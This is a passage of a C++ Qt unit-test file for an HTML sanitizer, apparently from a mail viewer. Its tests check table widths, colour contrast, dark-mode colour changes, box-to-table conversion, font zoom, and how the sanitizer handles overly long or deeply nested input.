    const SanitizedHtml result = HtmlSanitizer::sanitize(QStringLiteral("<style>%1</style>%2").arg(sheet, deep));
    QVERIFY2(timer.elapsed() < 20000, "a second on an idle machine");
    QVERIFY(result.html.contains(QLatin1String("x</p>")));
    QCOMPARE(firstForbidden(result.html), QString());
}

void HtmlSanitizerTest::fitsThePage_data()
{
    QTest::addColumn<QString>("html");
    QTest::addColumn<QString>("width"); // of the first table that has one
    const auto row = [](const char *name, const char *html, const char *width) {
        QTest::newRow(name) << QString::fromUtf8(html) << QString::fromUtf8(width);
    };
    row("narrow table", "<table width=300><td>x</table>", "300");
    row("wide table", "<table width=900><td>x</table>", "100%");
    row("by style", "<table style='width:300px'><td>x</table>", "300");
    row("style before attribute", "<table width=100% style='width:300px'><td>x</table>", "300");
    row("at most", "<table width=100% style='max-width:400px'><td>x</table>", "400");
    row("at most, and wider than the page", "<table width=100% style='max-width:900px'><td>x</table>", "100%");
    row("in a narrow one", "<table><td><table width=450><td>x</table></table>", "450");
    row("cell", "<table><td width=900>x</table>", "");
    row("column", "<div style='max-width:400px;margin:0 auto'>x</div>", "400");
    row("column by width", "<div style='width:400px;margin:0 auto'>x</div>", "400");
    row("a column as wide as the page", "<div style='max-width:490px;margin:0 auto'>x</div>", "");
    row("not in the middle", "<div style='max-width:400px'>x</div>", "");
    row("column of a sheet", "<style>.w{max-width:400px;margin:0 auto}</style><div class=w>x</div>", "400");
}

void HtmlSanitizerTest::fitsThePage()
{
    QFETCH(QString, html);
    QFETCH(QString, width);
    SanitizeOptions options;
    options.pageWidth = 500;
    const QString result = HtmlSanitizer::sanitize(html, options).html;
    QCOMPARE(firstForbidden(result), QString());
    static const QRegularExpression told(QStringLiteral(" width=\"([^\"]*)\""));
    QCOMPARE(told.match(result).captured(1), width);
    QCOMPARE(result.count(QLatin1String("<table")), result.count(QLatin1String("</table>")));
}

void HtmlSanitizerTest::takesThePageOfTheSender()
{
    const auto page = [](const char *html) { return HtmlSanitizer::sanitize(QString::fromLatin1(html)).page; };
    const std::optional<PageColors> light = page("<body bgcolor=#eeeeee text=#222222><p>x</p>");
    QVERIFY(light);
    QCOMPARE(light->background, qRgb(0xee, 0xee, 0xee));
    QCOMPARE(light->text, qRgb(0x22, 0x22, 0x22));
    const std::optional<PageColors> night = page("<style>body{background:#111}</style><body><p>x</p>");
    QVERIFY(night);
    QCOMPARE(night->background, qRgb(0x11, 0x11, 0x11));
    QVERIFY(contrast(night->background, night->text) >= 4.5);
    QVERIFY(!page("<body><p>x</p>"));
}

/// White text on a picture that is not here.
void HtmlSanitizerTest::whatCannotBeSeenIsMadeReadable()
{
    const QString unseen = HtmlSanitizer::sanitize(QStringLiteral("<p style='color:#fff'>x</p>")).html;
    static const QRegularExpression ink(QStringLiteral("color:(#[0-9a-f]{6});\"")); // the last one
    QVERIFY2(contrast(qRgb(255, 255, 255), QColor(ink.match(unseen).captured(1)).rgb()) >= 4.5, qPrintable(unseen));
    const QString pale = QStringLiteral("<p style=\"color:#aaaaaa;\">x</p>");
    QCOMPARE(HtmlSanitizer::sanitize(pale).html, pale);
    const QString seen = QStringLiteral("<span style=\"background-color:#222222;color:#ffffff;\">x</span>");
    QCOMPARE(HtmlSanitizer::sanitize(seen).html, seen);
}

void HtmlSanitizerTest::marksAreNotHeaped()
{
    const QString html = QStringLiteral("<p>a") + QString(QChar(0x301)).repeated(8000) + QStringLiteral("b</p>");
    QCOMPARE(HtmlSanitizer::sanitize(html).html.count(QChar(0x301)), 30);
}

void HtmlSanitizerTest::cutsLongOutput()
{
    SanitizeOptions options;
    options.longestOutput = 1000;
    const SanitizedHtml result = HtmlSanitizer::sanitize(QStringLiteral("<p>word</p>").repeated(1000), options);
    QVERIFY(result.cut);
    QVERIFY(result.html.size() < 1100);
    QVERIFY(!HtmlSanitizer::sanitize(QStringLiteral("<p>word</p>")).cut);
}

/// A beginning is parsed alone first; it does not stand for the whole when most of it is not shown.
void HtmlSanitizerTest::readsOnWhereLittleIsShown()
{
    SanitizeOptions options;
    options.longestOutput = 1000;
    const QString unseen = QStringLiteral("<!-- nothing of this is shown -->").repeated(200);
    const SanitizedHtml result = HtmlSanitizer::sanitize(unseen + QStringLiteral("<p>the end</p>"), options);
    QVERIFY(result.html.contains(QLatin1String("the end")));
    QVERIFY(!result.cut);
    const SanitizedHtml both = HtmlSanitizer::sanitize(unseen + QStringLiteral("<p>word</p>").repeated(1000), options);
    QVERIFY(both.cut);
    QVERIFY(both.html.size() >= 1000);
}

void HtmlSanitizerTest::aBeginningIsBetterThanNothing()
{
    const QString endless = QStringLiteral("<b>").repeated(1'000'000); // quadratic: an hour
    QVERIFY(HtmlSanitizer::sanitize(endless).tooComplex);
    SanitizeOptions options;
    options.longestOutput = 1000;
    const QString start = QStringLiteral("<p>start</p>") + QStringLiteral("<!-- unseen -->").repeated(100);
    const SanitizedHtml result = HtmlSanitizer::sanitize(start + endless, options);
    QVERIFY(result.html.contains(QLatin1String("start")));
    QVERIFY(result.cut);
    QVERIFY(!result.tooComplex);
}

void HtmlSanitizerTest::darkPageTurnsColours()
{
    SanitizeOptions options;
    options.darkPage = PageColors{qRgb(0x1e, 0x1f, 0x22), qRgb(0xe6, 0xe6, 0xe6)};
    const SanitizedHtml result =
        HtmlSanitizer::sanitize(QStringLiteral("<b style='color:#000;background-color:#fff'>x</b>"), options);
    QCOMPARE(result.html, QStringLiteral("<b style=\"background-color:#1f1f1f;color:#e6e6e6;\">x</b>"));
}

void HtmlSanitizerTest::darkPageKeepsTextReadable()
{
    SanitizeOptions options;
    options.darkPage = PageColors{qRgb(0x1e, 0x1f, 0x22), qRgb(0xe6, 0xe6, 0xe6)};
    const auto dark = [&options](const char *html) {
        return HtmlSanitizer::sanitize(QString::fromLatin1(html), options).html;
    };
    // White on mid green has a contrast of 2.9 as sent.
    const QString button =
        dark("<div style='background-color:#27ae60'><a href='https://x.example' style='color:#fff'>x</a></div>");
    static const QRegularExpression colors(QStringLiteral("background-color:(#\\w+).*color:(#\\w+);\">x"));
    const QRegularExpressionMatch match = colors.match(button);
    const QRgb text = QColor(match.captured(2)).rgb();
    QVERIFY(match.hasMatch());
    QCOMPARE(readableOn(QColor(match.captured(1)).rgb(), text), text); // needs no help any more
    for (const char *html : {"<p style='color:#999'>x</p>", "<p style='color:#333'>x</p>"}) {
        static const QRegularExpression ink(QStringLiteral("\"color:(#\\w+);\""));
        const QRgb shown = QColor(ink.match(dark(html)).captured(1)).rgb();
        QVERIFY2(contrast(options.darkPage->background, shown) >= 4.5, html);
    }
}

/// A shop's own blue, a black button: they are what they are on a dark page too, with the text that was made for them.
void HtmlSanitizerTest::darkPageKeepsWhatIsDark()
{
    SanitizeOptions options;
    options.darkPage = PageColors{qRgb(0x1e, 0x1f, 0x22), qRgb(0xe6, 0xe6, 0xe6)};
    const auto dark = [&options](const char *html) {
        return HtmlSanitizer::sanitize(QString::fromLatin1(html), options).html;
    };
    QCOMPARE(dark("<b style='background:#12395b;color:#fff'>x</b>"),
             QStringLiteral("<b style=\"background-color:#12395b;color:#ffffff;\">x</b>"));
    // what is light inside of it is turned again, and what stands on that too
    const QString light =
        dark("<b style='background:#12395b;color:#fff'><i style='background:#fff;color:#000'>x</i></b>");
    QVERIFY2(light.contains(QLatin1String("background-color:#1f1f1f;color:#e6e6e6;")), qPrintable(light));
    // nobody said which colour: black, as in a browser, could not be read
    static const QRegularExpression ink(QStringLiteral("#12395b;color:(#\\w+);"));
    const QRgb text = QColor(ink.match(dark("<b style='background:#12395b'>x</b>")).captured(1)).rgb();
    QVERIFY(contrast(qRgb(0x12, 0x39, 0x5b), text) >= 4.5);
}

void HtmlSanitizerTest::boxesAreTables_data()
{
    QTest::addColumn<QString>("html");
    QTest::addColumn<int>("tables");
    const auto row = [](const char *name, const char *html, int tables) {
        QTest::newRow(name) << QString::fromUtf8(html) << tables;
    };
    row("nothing", "<div>x</div>", 0);
    row("room", "<div style='padding:8px'>x</div>", 1);
    row("hardly any", "<div style='padding:2px'>x</div>", 0);
    row("colour", "<div style='background:#eee'>x</div>", 1);
    row("the colour that is there", "<div style='background:#eee'><div style='background:#eee'>x</div></div>", 1);
    row("border", "<div style='border-top:1px solid #ccc'>x</div>", 1);
    row("paragraph", "<p style='background:#eee'>x</p>", 1);
    row("in a quote", "<blockquote><div style='padding:8px'>x</div></blockquote>", 0);
    row("in a list", "<ul><li><div style='padding:8px'>x</div></ul>", 0);
    row("in boxes", "<div style='padding:8px'><div style='padding:8px'>x</div></div>", 2);
    row("in a line", "<span style='padding:8px;background:#eee'>x</span>", 0);
    row("button alone", "<p><a href='https://e.example/' style='padding:8px;background:#000'>x</a></p>", 1);
    row("button in a cell", "<table><td><a href='https://e.example/' style='padding:8px;background:#000'>x</a></table>",
        2);
    row("button in a line", "<p>y <a href='https://e.example/' style='padding:8px;background:#000'>x</a></p>", 0);
    row("link alone", "<p><a href='https://e.example/'>x</a></p>", 0);
}

void HtmlSanitizerTest::boxesAreTables()
{
    QFETCH(QString, html);
    QFETCH(int, tables);
    const QString result = HtmlSanitizer::sanitize(html).html;
    QCOMPARE(firstForbidden(result), QString());
    QCOMPARE(result.count(QLatin1String("<table")), tables);
    QCOMPARE(result.count(QLatin1String("</table>")), tables);
    QCOMPARE(result.count(QLatin1String("</a>")), result.count(QLatin1String("<a ")));
    // the box begins with where its text stands around it
    const QString centred =
        HtmlSanitizer::sanitize(QStringLiteral("<div align=center><div style='padding:8px'>x</div></div>")).html;
    QVERIFY2(centred.contains(QLatin1String("<td align=\"center\"")), qPrintable(centred));
}

void HtmlSanitizerTest::zoomsFonts()
{
    SanitizeOptions options;
    options.zoom = 1.5;
    QCOMPARE(HtmlSanitizer::sanitize(QStringLiteral("<p style='font-size:12pt'>x</p>"), options).html,
             QStringLiteral("<p style=\"font-size:24px;\">x</p>"));
}

QTEST_GUILESS_MAIN(HtmlSanitizerTest)
#include "HtmlSanitizerTest.moc"
